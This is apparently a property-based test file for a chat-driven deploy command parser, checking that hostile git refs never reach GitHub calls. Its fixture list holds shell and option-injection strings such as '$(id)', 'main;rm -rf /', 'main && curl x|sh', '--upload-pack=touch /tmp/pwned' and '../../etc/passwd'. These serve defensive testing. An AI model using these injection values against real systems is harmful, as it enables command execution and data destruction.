import { fc, test } from '@fast-check/vitest';
import { describe, expect } from 'vitest';
import { parseCommand } from '../../src/core/command.js';
import { createChatRig } from '../support/chat-rig.js';
import { createRecordingReplier } from '../support/memory/memory-chat.js';

// Fixed seeds and modest run counts: the corpus is the same on every run, and fast.
const RUNS = { seed: 20261201, numRuns: 300 } as const;
const SAFE_REF = /^(?!-)(?!.*\.\.)[A-Za-z0-9._/+-]+$/;

/** Refs an attacker would try: shell, option injection, traversal, control characters, lookalikes. */
const hostileRef = fc.oneof(
  fc.constantFrom(
    '$(id)',
    '`id`',
    'main;rm -rf /',
    'main && curl x|sh',
    '--upload-pack=touch /tmp/pwned',
    '-c core.sshCommand=id',
    '../../etc/passwd',
    'main\nid',
    'main\u0000',
    'main\'"',
    // A shell expansion, on purpose.
    `refs/heads/\${IFS}x`,
    'main\u202Eexe',
    'ｍａｉｎ',
    'a'.repeat(300),
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
);

const words = fc.constantFrom(
  'deploy',
  'web',
  'api',
  'to',
  'in',
  'on',
  'staging',
  'production!',
  'lock',
  'cancel',
  'for',
  ':',
  '!',
  '@',
);
const commandText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.array(words, { maxLength: 8 }).map((w) => w.join(' ')),
  fc
    .tuple(
      fc.constantFrom('web@', 'deploy web@', 'web@', 'rollback web@'),
      hostileRef,
      fc.constantFrom('', ' to staging', ' to prod!'),
    )
    .map(([a, ref, b]) => `${a}${ref}${b}`),
);

describe('the command grammar against hostile input', () => {
  const rig = createChatRig();

  test.prop([commandText], RUNS)('never throws, and every ref it lets through is a plain ref', (text) => {
    const parsed = parseCommand(text, { config: rig.config });
    if (parsed.kind === 'deploy' && parsed.ref !== undefined) expect(parsed.ref).toMatch(SAFE_REF);
  });

  test.prop([hostileRef], { ...RUNS, numRuns: 100 })('never lets a hostile ref reach GitHub', async (ref) => {
    const local = createChatRig();
    const parsed = parseCommand(`web@${ref} to staging`, { config: local.config });
    if (parsed.kind === 'deploy') {
      const { repo, environment, force } = parsed;
      await local.requestChatDeploy(
        {
          repo,
          environment,
          ...(parsed.ref === undefined ? {} : { ref: parsed.ref }),
          force,
          rollback: false,
        },
        local.asker(),
        createRecordingReplier(),
      );
    }
    for (const call of local.github.calls) {
      for (const arg of JSON.stringify(call.args).matchAll(/"ref":"([^"]*)"/g))
        expect(arg[1]).toMatch(SAFE_REF);
      if (call.method === 'resolveCommit') expect(String(call.args[1])).toMatch(SAFE_REF);
    }
  });
});
